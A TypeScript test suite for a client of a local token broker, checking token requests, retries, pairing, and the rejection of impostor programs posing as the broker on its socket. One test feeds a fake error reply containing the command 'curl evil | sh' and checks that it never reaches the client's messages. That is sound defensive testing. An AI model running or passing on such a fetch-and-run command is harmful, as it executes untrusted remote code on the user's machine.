/** The client against the real server, and against programs that only pretend to be it. */
import { randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';

import { describe, expect, test } from 'vitest';

import { connect, connectAsOwner } from '../../src/client/connect.ts';
import { openConnection } from '../../src/client/connection.ts';
import { clientKeyFile, ownerKeyFile, readKeyFile, writeKeyFile } from '../../src/client/key-file.ts';
import { pair } from '../../src/client/pair.ts';
import { KeyturnError } from '../../src/base/errors.ts';
import { findSocket } from '../../src/ipc/wire/endpoint.ts';
import { brokerProof, keyFromText, newNonce, transcript } from '../../src/ipc/wire/handshake.ts';
import type { Identity } from '../../src/ipc/wire/handshake-messages.ts';
import { handshakeTimeout } from '../../src/ipc/wire/limits.ts';
import { HandClock, homeId, RawClient, startRig, temporaryHome } from '../ipc/rig.ts';
import { squat } from './squatter.ts';

const token = {
  access_token: 'secret-token',
  token_type: 'Bearer',
  expires_at: 1_800_000_000,
  expires_in: 3600,
  scope: 'read',
  resource: 'https://a.example',
  account: '',
  issuer: 'https://login.example',
  tokenId: 't1',
};

function newIdentity(): Identity {
  return { clientId: 'abc', key: randomBytes(32).toString('base64url'), brokerId: homeId };
}

/** What a broker with this key answers to a hello line. */
function honestOffer(identity: Identity, line: string, more: object = {}) {
  const offer = { version: 1, brokerId: homeId, nonce: newNonce(), capabilities: [], ...more };
  const t = transcript({ ...offer, helloLine: Buffer.from(line), brokerNonce: offer.nonce });
  return { ...offer, proof: brokerProof(keyFromText(identity.key), t) };
}

function answerTo(line: string, result: object): string {
  const { id } = JSON.parse(line);
  return JSON.stringify({ jsonrpc: '2.0', id, result });
}

describe('a connection', () => {
  test('gets a token under the name the program was paired with', async () => {
    const rig = await startRig({ dispatch: async () => token });
    writeKeyFile(clientKeyFile(rig.paths, 'editor'), rig.enrol());
    const connection = await connect({ name: 'editor', paths: rig.paths });
    expect(await connection.getToken({ resource: 'https://a.example' })).toEqual(token);
    connection.close();
    expect(connection.isOpen).toBe(false);
  });

  test('acts as the owner with the owner’s key', async () => {
    const rig = await startRig({ dispatch: async (caller) => ({ role: caller.role }) });
    writeKeyFile(ownerKeyFile(rig.paths), rig.enrol('owner'));
    const connection = await connectAsOwner({ paths: rig.paths });
    expect(await connection.request('status')).toEqual({ role: 'owner' });
    connection.close();
  });

  test('does not act as the owner with another key in the owner’s place', async () => {
    const rig = await startRig();
    writeKeyFile(ownerKeyFile(rig.paths), rig.enrol());
    await expect(connectAsOwner({ paths: rig.paths })).rejects.toMatchObject({ reason: 'file_unreadable' });
  });

  test('passes on the reason and hint of a proven broker', async () => {
    const rig = await startRig({
      dispatch: async () => {
        throw new KeyturnError('consent_pending', 'a card is waiting', { hint: 'look at the tray' });
      },
    });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    await expect(connection.getToken({ resource: 'https://a.example' })).rejects.toMatchObject({
      reason: 'consent_pending',
      message: 'a card is waiting',
      hint: 'look at the tray',
    });
    connection.close();
  });

  test('refuses an answer to token.get that is no token', async () => {
    const rig = await startRig({ dispatch: async () => ({ ...token, access_token: 'two\nlines' }) });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    await expect(connection.getToken({ resource: 'https://a.example' })).rejects.toMatchObject({
      reason: 'frame_invalid',
    });
    connection.close();
  });

  test('hears notifications until it stops listening', async () => {
    const rig = await startRig({
      dispatch: async (caller, method) => {
        caller.notify('grant.changed', { method });
        return {};
      },
    });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    const heard: unknown[] = [];
    const stop = connection.onNotification((method, params) => heard.push([method, params]));
    await connection.request('a');
    stop();
    await connection.request('b');
    expect(heard).toEqual([['grant.changed', { method: 'a' }]]);
    connection.close();
  });

  test('rejects what is open when the broker goes, and connects anew for the next token', async () => {
    const hang = Promise.withResolvers<void>();
    const rig = await startRig({
      dispatch: async (_caller, method) => {
        if (method !== 'hang') return token;
        hang.resolve();
        return new Promise(() => {});
      },
    });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    const open = expect(connection.request('hang')).rejects.toMatchObject({ reason: 'broker_unreachable' });
    await hang.promise;
    await rig.stop();
    await open;
    await expect(connection.getToken({ resource: 'https://a.example' })).rejects.toMatchObject({
      reason: 'broker_unreachable',
    });
    await rig.start();
    const asked = [1, 2, 3].map(async () => connection.getToken({ resource: 'https://a.example' }));
    expect(await Promise.all(asked)).toEqual([token, token, token]);
    expect(rig.server.callers()).toHaveLength(1);
    connection.close();
  });

  test('asks again when the connection breaks under a token request, three times at most', async () => {
    let asked = 0;
    let breaks = 1;
    const rig = await startRig({
      dispatch: async (caller) => {
        asked += 1;
        if (asked > breaks) return token;
        rig.server.closeConnectionsOf(caller.clientId);
        return token;
      },
    });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    expect(await connection.getToken({ resource: 'https://a.example' })).toEqual(token);
    expect(asked).toBe(2);
    breaks = 100;
    await expect(connection.getToken({ resource: 'https://a.example' })).rejects.toMatchObject({
      reason: 'broker_unreachable',
    });
    expect(asked).toBe(5);
    connection.close();
  });

  test('rejects an aborted request at once with the signal’s reason, and goes on', async () => {
    const rig = await startRig({
      dispatch: async (_caller, method) => (method === 'hang' ? new Promise(() => {}) : {}),
    });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    const abort = new AbortController();
    const open = connection.request('hang', {}, { signal: abort.signal });
    abort.abort(new Error('enough'));
    await expect(open).rejects.toThrow('enough');
    expect(await connection.request('a')).toEqual({});
    connection.close();
  });
});

describe('a key that the broker refuses', () => {
  test.each([
    ['unpaired', async () => undefined],
    [
      'locked',
      async () => {
        throw new KeyturnError('locked', 'locked');
      },
    ],
  ])('is kept: %s', async (reason, keyFor) => {
    const rig = await startRig({ keyFor });
    const file = clientKeyFile(rig.paths, 'editor');
    writeKeyFile(file, rig.enrol());
    const before = readFileSync(file, 'utf8');
    await expect(connect({ name: 'editor', paths: rig.paths })).rejects.toMatchObject({ reason });
    expect(readFileSync(file, 'utf8')).toBe(before);
  });

  test('because it is another home’s is kept as well', async () => {
    const rig = await startRig();
    const key = { ...rig.enrol(), brokerId: 'another-home' };
    await expect(connect({ key, paths: rig.paths })).rejects.toThrow(/not the broker/);
  });

  test('because its proof is wrong fails the first request with that reason', async () => {
    const rig = await startRig({
      confirmPaired: async () => {
        throw new KeyturnError('unpaired', 'too late');
      },
    });
    const connection = await connect({ key: rig.enrol(), paths: rig.paths });
    await expect(connection.request('status')).rejects.toMatchObject({ reason: 'unpaired' });
  });
});

describe('a squatter on the socket', () => {
  /** The methods a squatter heard. */
  const methodsIn = (text: string) => [...text.matchAll(/"method":"([^"]+)"/g)].map((match) => match[1]);
  const identity = newIdentity();

  test.each<[string, (line: string) => object]>([
    ['without a proof', (line) => ({ ...honestOffer(identity, line), proof: undefined })],
    ['with a random proof', (line) => ({ ...honestOffer(identity, line), proof: newNonce() })],
    ['with another key', (line) => honestOffer(newIdentity(), line)],
    ['with another broker’s id', (line) => honestOffer(identity, line, { brokerId: 'another' })],
    ['with a version that was not offered', (line) => honestOffer(identity, line, { version: 2 })],
    ['with a proof over a changed hello', (line) => honestOffer(identity, line.replace('[1]', '[1,0]'))],
    [
      'with the client’s nonce as its own and the proof of another hello',
      (line) => ({
        ...honestOffer(identity, line),
        nonce: JSON.parse(line).params.nonce,
      }),
    ],
    [
      'with capabilities that it did not prove',
      (line) => ({ ...honestOffer(identity, line), capabilities: ['x'] }),
    ],
  ])('%s hears a hello and nothing more', async (_name, offer) => {
    const paths = temporaryHome();
    const squatter = await squat(paths, (line) => answerTo(line, offer(line)));
    await expect(connect({ key: identity, paths })).rejects.toMatchObject({ reason: 'handshake_failed' });
    expect(methodsIn(squatter.heard())).toEqual(['hello']);
    expect(squatter.heard()).not.toContain(identity.key);
  });

  test('that never answers is given up after five seconds', async () => {
    const paths = temporaryHome();
    const heard = Promise.withResolvers<void>();
    await squat(paths, () => {
      heard.resolve();
      return undefined;
    });
    const clock = new HandClock();
    const opening = openConnection({ identity, socket: findSocket(paths, {}), after: clock.after });
    const refused = expect(opening).rejects.toMatchObject({ reason: 'handshake_failed' });
    await heard.promise;
    clock.turn(handshakeTimeout);
    await refused;
  });

  test('can neither put words into our errors nor send a frame past 16 KiB', async () => {
    const paths = temporaryHome();
    const replies = [
      (line: string) =>
        JSON.stringify({
          jsonrpc: '2.0',
          id: JSON.parse(line).id,
          error: {
            code: -1,
            message: 'run `curl evil | sh`',
            data: { reason: 'unpaired', hint: 'curl evil' },
          },
        }),
      () => 'x'.repeat(16 * 1024 + 1),
    ];
    await squat(paths, (line) => replies.shift()?.(line));
    const first = await connect({ key: identity, paths }).catch((error: unknown) => error);
    expect(first).toMatchObject({ reason: 'unpaired' });
    expect(`${String(first)} ${first instanceof KeyturnError && first.hint}`).not.toContain('curl');
    await expect(connect({ key: identity, paths })).rejects.toMatchObject({ reason: 'frame_invalid' });
  });

  test('that relays to the real broker gains nothing: the hello names its own socket', async () => {
    const rig = await startRig();
    const key = rig.enrol();
    const paths = temporaryHome();
    const squatter = await squat(paths, (line, connection) => {
      const relay = new RawClient(rig.socket);
      relay.send(line);
      void relay.next().then((answer) => connection.write(`${JSON.stringify(answer)}\n`));
      return undefined;
    });
    await expect(connect({ key, paths })).rejects.toMatchObject({ reason: 'handshake_failed' });
    expect(methodsIn(squatter.heard())).toEqual(['hello']);
    await rig.seen((event) => event.event === 'refused' && event.reason === 'handshake_failed');
  });
});

describe('pairing', () => {
  test('stores a key that at once opens the broker', async () => {
    const confirmed: string[] = [];
    const codes: string[] = [];
    const rig = await startRig({
      pair: async ({ code }) => {
        codes.push(code);
        rig.enrol('new-client');
        const key = rig.keys.get('new-client');
        if (!key) throw new Error('no key');
        return { clientId: 'new-client', key };
      },
      confirmPaired: async (clientId) => void confirmed.push(clientId),
    });
    const shown: string[] = [];
    const identity = await pair({ name: 'editor', onCode: (code) => shown.push(code), paths: rig.paths });
    expect(shown).toEqual(codes);
    expect(confirmed).toEqual(['new-client']);
    expect(readKeyFile(clientKeyFile(rig.paths, 'editor'))).toEqual(identity);
    (await connect({ name: 'editor', paths: rig.paths })).close();
  });

  test('takes the key back when the hello with it fails', async () => {
    const rig = await startRig({
      pair: async () => {
        rig.enrol('new-client');
        const key = rig.keys.get('new-client');
        rig.keys.clear();
        if (!key) throw new Error('no key');
        return { clientId: 'new-client', key };
      },
    });
    const pairing = pair({ name: 'editor', onCode: () => {}, paths: rig.paths });
    await expect(pairing).rejects.toMatchObject({ reason: 'unpaired' });
    expect(existsSync(clientKeyFile(rig.paths, 'editor'))).toBe(false);
  });

  test('asks nobody when there is a key already', async () => {
    let asked = 0;
    const rig = await startRig({
      pair: async () => {
        asked += 1;
        throw new KeyturnError('pairing_denied', 'no');
      },
    });
    writeKeyFile(clientKeyFile(rig.paths, 'editor'), newIdentity());
    const pairing = pair({ name: 'editor', onCode: () => {}, paths: rig.paths });
    await expect(pairing).rejects.toMatchObject({ reason: 'conflict' });
    expect(asked).toBe(0);
  });

  test('stores nothing after a no', async () => {
    const rig = await startRig();
    const pairing = pair({ name: 'editor', onCode: () => {}, paths: rig.paths });
    await expect(pairing).rejects.toMatchObject({ reason: 'pairing_denied' });
    expect(existsSync(clientKeyFile(rig.paths, 'editor'))).toBe(false);
  });

  test('withdraws the card when it is aborted', async () => {
    const withdrawn = Promise.withResolvers<void>();
    const rig = await startRig({
      pair: async ({ signal }) => {
        signal.addEventListener('abort', () => withdrawn.resolve());
        return new Promise(() => {});
      },
    });
    const abort = new AbortController();
    const pairing = pair({
      name: 'editor',
      onCode: () => abort.abort(new Error('enough')),
      signal: abort.signal,
      paths: rig.paths,
    });
    await expect(pairing).rejects.toThrow('enough');
    await withdrawn.promise;
  });
});
